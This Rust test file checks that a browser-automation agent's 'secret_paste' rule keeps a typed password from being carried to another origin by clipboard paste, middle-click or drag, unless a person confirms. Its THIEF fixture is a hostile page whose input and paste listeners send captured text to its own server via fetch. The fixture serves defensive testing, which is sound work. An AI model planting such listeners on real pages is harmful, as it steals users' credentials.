//! A secret that was typed is not carried to another origin by the clipboard, by the selection or by a drag.

use serde_json::{Value, json};

use crate::bench::Bench;
use crate::pages::{Page, PageServer};
use crate::person::Person;
use crate::tools_client::Tools;

const VALUE: &str = "hunter2pass";

/// Tells its own server what it was given, also where no field has the focus.
const THIEF: &str = "<!doctype html><title>Other</title>
<textarea style='position:fixed;inset:0 0 50% 0;width:100%' oninput=\"fetch('/got?' + encodeURIComponent(this.value))\"></textarea>
<p style='position:fixed;inset:60% 0 0 0'>Nothing here
<script>addEventListener('paste', (e) => fetch('/got?' + encodeURIComponent(e.clipboardData.getData('text'))))</script>";

struct Scene {
    bench: Bench,
    home: PageServer,
    other: PageServer,
}

impl Scene {
    /// A field on the left, another one below it, and a frame of another origin on the right.
    fn new() -> Scene {
        let other = PageServer::with(THIEF);
        let html = format!(
            "<!doctype html><title>Home</title><style>*{{position:fixed;width:45%;border:0}}</style>
<input style='left:0;top:0;height:20%;font-size:60px'><textarea style='left:0;top:30%;height:20%'></textarea>
<iframe src='{}' style='left:50%;top:0;height:100%'></iframe>",
            other.url()
        );
        let home = PageServer::start(&[("/", Page::Html(Box::leak(html.into_boxed_str())))]);
        Scene { bench: Bench::new(), home, other }
    }

    /// The secret is in the field, and selected.
    fn typed(&self, confirm: &str) -> Tools {
        let file = self.bench.write("secret.txt", VALUE);
        let secret = format!("pw=file:{}", file.display());
        let url = self.home.url();
        let more = ["--url", &url, "--confirm", confirm, "--secret", &secret, "--set", "density_gate=off"];
        let mut tools = Tools::start(&self.bench, &more);
        expect_done(&tools.ask(click(200, 100)));
        expect_done(&tools.ask(json!({"tool": "keyboard", "action": "type", "text": "<secret:pw>"})));
        expect_done(&tools.ask(press("ctrl+a")));
        tools
    }

    fn stolen(&self) -> Vec<String> {
        self.other.requests().into_iter().filter(|request| request.contains("hunter2")).collect()
    }
}

fn click(x: u32, y: u32) -> Value {
    json!({"tool": "mouse", "action": "click", "coordinate": [x, y]})
}

fn middle_click(x: u32, y: u32) -> Value {
    json!({"tool": "mouse", "action": "click", "coordinate": [x, y], "button": "middle"})
}

fn press(key: &str) -> Value {
    json!({"tool": "keyboard", "action": "press", "key": key})
}

fn drag(from: [u32; 2], to: [u32; 2]) -> Value {
    json!({"tool": "mouse", "action": "drag", "start_coordinate": from, "end_coordinate": to})
}

fn expect_done(answer: &Value) {
    assert_eq!(answer["ok"], true, "{answer}");
}

fn expect_refused(answer: &Value) {
    assert_eq!((&answer["ok"], &answer["error"]["code"]), (&json!(false), &json!("denied")), "{answer}");
    let message = answer["error"]["message"].as_str().unwrap();
    assert!(message.contains("rule secret_paste"), "{message}");
    assert_eq!(answer["dispatched"], json!(null));
}

#[test]
fn keys_do_not_paste_it_into_another_origin() {
    let scene = Scene::new();
    let mut tools = scene.typed("risky");
    expect_done(&tools.ask(press("ctrl+c")));
    // At home it may be pasted: the secret is bound to that origin.
    expect_done(&tools.ask(click(200, 400)));
    let pasted = tools.ask(press("ctrl+v"));
    expect_done(&pasted);
    assert_eq!(pasted["focus"]["value"], "<secret:pw>", "{pasted}");
    // In the frame: into the field, and where nothing is focused.
    for y in [200, 900] {
        expect_done(&tools.ask(click(750, y)));
        for key in ["ctrl+v", "ctrl+shift+v", "shift+insert"] {
            expect_refused(&tools.ask(press(key)));
        }
    }
    // In another tab.
    expect_done(&tools.ask(json!({"tool": "tab", "action": "open", "url": scene.other.url()})));
    expect_done(&tools.ask(click(300, 100)));
    expect_refused(&tools.ask(press("shift+insert")));
    tools.close().expect(0);
    assert_eq!(scene.stolen(), Vec::<String>::new());
}

#[test]
fn the_pointer_does_not_take_it_there_either() {
    let scene = Scene::new();
    let mut tools = scene.typed("risky");
    for y in [200, 900] {
        expect_refused(&tools.ask(middle_click(750, y)));
        expect_refused(&tools.ask(drag([20, 100], [750, y])));
    }
    // What stays within one origin is nobody's concern.
    expect_done(&tools.ask(drag([20, 100], [200, 400])));
    expect_done(&tools.ask(drag([700, 100], [750, 200])));
    expect_done(&tools.ask(middle_click(200, 400)));
    tools.close().expect(0);
    assert_eq!(scene.stolen(), Vec::<String>::new());
}

/// Without the question the value does arrive: the ways that are closed above are real ones.
#[test]
fn nobody_is_asked_where_nobody_wants_to_be() {
    for way in ["keys", "middle", "page"] {
        let scene = Scene::new();
        let mut tools = scene.typed("none");
        match way {
            "keys" => {
                expect_done(&tools.ask(press("ctrl+c")));
                expect_done(&tools.ask(click(750, 200)));
                expect_done(&tools.ask(press("ctrl+v")));
            }
            "middle" => expect_done(&tools.ask(middle_click(750, 200))),
            _ => expect_done(&tools.ask(middle_click(750, 900))),
        }
        tools.close().expect(0);
        assert_ne!(scene.stolen(), Vec::<String>::new(), "{way}");
    }
}

#[test]
fn a_person_who_agrees_gets_it_pasted() {
    let scene = Scene::new();
    let file = scene.bench.write("secret.txt", VALUE);
    let secret = format!("pw=file:{}", file.display());
    let typed = json!({"tool": "keyboard", "action": "type", "text": "<secret:pw>"});
    let calls = [click(200, 100), typed, press("ctrl+a"), press("ctrl+c"), click(750, 200), press("ctrl+v")];
    let end = json!({"tool": "done", "success": false, "summary": "that is all"});
    let replies: Vec<Value> = calls.into_iter().chain([end]).map(|call| json!({"calls": [call]})).collect();
    let brain = scene.bench.script(&replies);
    let more = ["--secret", &secret, "--set", "density_gate=off"];
    let mut person = Person::run(&scene.bench, &scene.home.url(), &brain, &more);
    person.is_asked();
    let screen = person.screen();
    for part in ["  action   press Control+v", "  target   textbox", "(rule secret_paste)"] {
        assert!(screen.contains(part), "{part}: {screen}");
    }
    assert_eq!(scene.stolen(), Vec::<String>::new(), "nothing happens before the answer");
    person.types("y\n");
    let (code, screen) = person.leaves();
    assert_eq!(code, Some(1), "{screen}");
    assert_ne!(scene.stolen(), Vec::<String>::new(), "{screen}");
}

#[test]
fn before_a_secret_was_typed_a_paste_is_a_paste() {
    let scene = Scene::new();
    let file = scene.bench.write("secret.txt", VALUE);
    let (secret, url) = (format!("pw=file:{}", file.display()), scene.home.url());
    let mut tools = Tools::start(&scene.bench, &["--url", &url, "--confirm", "risky", "--secret", &secret]);
    expect_done(&tools.ask(click(750, 200)));
    expect_done(&tools.ask(press("ctrl+v")));
    expect_done(&tools.ask(middle_click(750, 200)));
    tools.close().expect(0);
}
